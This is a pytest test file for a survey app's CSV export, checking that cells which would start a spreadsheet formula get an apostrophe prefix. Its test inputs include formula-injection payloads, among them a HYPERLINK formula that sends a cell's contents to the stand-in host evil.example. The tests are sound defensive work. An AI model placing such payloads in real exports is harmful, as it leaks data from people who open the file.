"""CSV files HR and leaders open in a spreadsheet never carry a formula from someone's data."""

import csv
import io

import pytest

from surveyapp.spreadsheet import text_cell


@pytest.mark.parametrize("text", ["=1+1", "+44 20 7946 0000", "-x", "@SUM(A1)", "\tx", "\rx",
                                  "\t=1+1", "\r=1+1", ";=1+1",
                                  '=HYPERLINK("http://evil.example/?"&A1)'])
def test_text_that_would_start_a_formula_gets_an_apostrophe(text):
    assert text_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Zoë O'Brien", "Northwind/Operations", "", "a=b", "3.52"])
def test_ordinary_text_is_unchanged(text):
    assert text_cell(text) == text


def test_links_csv_makes_a_formula_name_and_team_inert(db, runner, make_team, make_person):
    from datetime import timedelta

    from surveyapp.clock import today
    from surveyapp.rounds.operations import create_round, launch_round

    team = make_team("=Ops")
    make_person(team=team, name='=HYPERLINK("http://evil.example")')
    round_ = create_round(name="Autumn", teams=[team], opens_on=today(),
                          closes_on=today() + timedelta(days=7), today=today())
    launch_round(round_, today=today())
    db.session.commit()

    result = runner.invoke(args=["round", "links", str(round_.id)])

    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[0]["name"] == '\'=HYPERLINK("http://evil.example")'
    assert rows[0]["team"] == "'=Ops"
    assert rows[0]["url"].startswith("http")
